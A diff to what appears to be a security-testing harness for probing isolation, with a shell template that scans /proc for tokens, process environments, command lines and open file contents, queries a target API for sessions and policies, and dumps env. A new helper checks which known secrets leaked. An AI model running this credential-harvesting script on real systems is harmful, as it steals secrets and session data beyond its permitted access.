@@ -27,6 +27,7 @@ for it in /proc/[0-9]* /proc/self/task/* /proc/$host /proc/$PPID; do
   try cat "$it/root$data/token" "$it/cwd/../data/token" "$it/environ" "$it/cmdline"
   for handle in "$it"/fd/*; do
     if [ -d "$handle" ]; then try cat "$handle/token" "$handle$data/token" "$handle/data/token"
+    elif [ "$handle" -ef attack.out ]; then continue
     elif [ -f "$handle" ]; then try head -c 100000 "$handle"; fi
   done
 done
@@ -52,6 +53,10 @@ try curl -s "$url/api/approvals" "$url/api/sessions" "$url/api/policies"
 env
 echo END
 `
+
+/** Of these texts, those that it has printed. */
+export const leaked = (found: string, secrets: readonly string[]) =>
+  secrets.filter((it) => found.includes(it))
 
 /** Changes what it can. */
 export const changes = (target: Target) => `${head(target)}
